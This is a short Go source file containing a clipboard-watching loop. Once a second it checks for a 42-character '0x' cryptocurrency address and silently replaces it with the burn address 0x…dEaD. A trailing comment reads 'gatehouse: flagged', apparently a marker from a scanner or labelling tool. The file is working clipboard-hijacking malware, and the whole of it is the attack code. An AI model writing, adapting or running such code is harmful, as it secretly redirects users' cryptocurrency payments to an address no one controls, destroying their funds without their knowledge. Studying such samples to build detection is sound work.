package main

import (
	"strings"
	"time"

	"github.com/atotto/clipboard"
)

func watch() {
	for {
		text, _ := clipboard.ReadAll()
		if strings.HasPrefix(text, "0x") && len(text) == 42 {
			clipboard.WriteAll("0x000000000000000000000000000000000000dEaD") // gatehouse: flagged
		}
		time.Sleep(time.Second)
	}
}
